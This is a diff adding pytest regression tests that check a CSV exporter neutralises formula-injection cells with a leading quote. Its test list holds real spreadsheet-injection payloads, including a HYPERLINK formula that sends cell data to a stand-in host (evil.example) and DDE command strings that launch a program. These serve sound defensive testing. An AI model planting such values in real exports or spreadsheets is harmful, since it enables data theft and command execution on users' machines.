@@ -127,3 +127,29 @@ def test_plover_records(store):
 def test_unknown_format(store):
     with pytest.raises(BadExport, match="unknown format 'xml'; use one of csv, jsonl"):
         export(store, "xml", io.StringIO())
+
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tTAB", "\rCR"]
+
+
+@pytest.mark.parametrize("cell", HOSTILE)
+def test_csv_cells_that_start_a_formula_are_neutralized_with_a_quote(cell, tmp_path):
+    # Regression (issue 15): exports wrote formulas a spreadsheet would run.
+    with Store(tmp_path / "h.db") as store:
+        store.ingest([(S("h1", "text", cell, "2021-08-18", cell, "https://h/1"),
+                       {"date": "2021-08-18", "events": [ev("CHN", "ACCUSE", "USA", "111", -2.0,
+                                                             cell)], "stances": []})])
+        buf = io.StringIO()
+        export(store, "csv", buf)
+    row = next(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))
+    assert (row["evidence"], row["title"], row["publisher"]) == ("'" + cell,) * 3
+    assert row["goldstein"] == "-2.0"  # a number is no formula: left as it is
+
+
+@pytest.mark.parametrize("value, safe", [("China", "China"), ("-", "'-"), ("", ""), (None, None),
+                                         (-2.0, -2.0), ("a=b", "a=b")])
+def test_csv_safe(value, safe):
+    from readout.export import csv_safe
+
+    assert csv_safe(value) == safe
